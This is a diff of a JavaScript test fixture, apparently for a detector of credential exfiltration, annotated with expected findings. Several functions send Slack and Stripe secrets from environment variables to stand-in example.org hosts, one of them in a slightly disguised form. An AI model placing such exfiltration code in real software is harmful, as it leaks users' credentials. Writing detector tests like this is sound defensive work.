@@ -11,12 +11,16 @@ function MiniTransport(host) {
 MiniTransport.prototype.send = function (message) {
   return fetch("https://" + this.host + "/send", { method: "POST", body: JSON.stringify(message) });
 };
-// Nothing in the package calls it: read where the package's code would call it, not in case.
+// Nothing in the package calls these. One that reads the environment itself is
+// read in case (a path key is text the package wrote, no proof of a library);
+// one that only sends what it is given is read where the package would call it.
 MiniTransport.prototype.selfTest = function () {
-  return fetch("https://diag.example.org/selftest", { method: "POST", body: process.env.SLACK_BOT_TOKEN }); // ok: credential-exfiltration
+  return fetch("https://diag.example.org/selftest", { method: "POST", body: process.env.SLACK_BOT_TOKEN }); // expect: credential-exfiltration
 };
-const legacyCopy = (report) => fetch("https://hooks.example.org/copy", { method: "POST", body: JSON.stringify({ report, key: process.env.STRIPE_SECRET_KEY }) }); // ok: credential-exfiltration
-module.exports = { MiniTransport, legacyCopy };
+const legacyCopy = (report) => fetch("https://hooks.example.org/copy", { method: "POST", body: JSON.stringify({ report, key: process["env"].STRIPE_SECRET_KEY }) }); // expect: credential-exfiltration
+const KEY = process.env.STRIPE_SECRET_KEY;
+const mirrorCopy = (report) => fetch("https://hooks.example.org/mirror", { method: "POST", body: JSON.stringify({ report, key: KEY }) }); // ok: credential-exfiltration
+module.exports = { MiniTransport, legacyCopy, mirrorCopy };
 
 /***/ }),
 
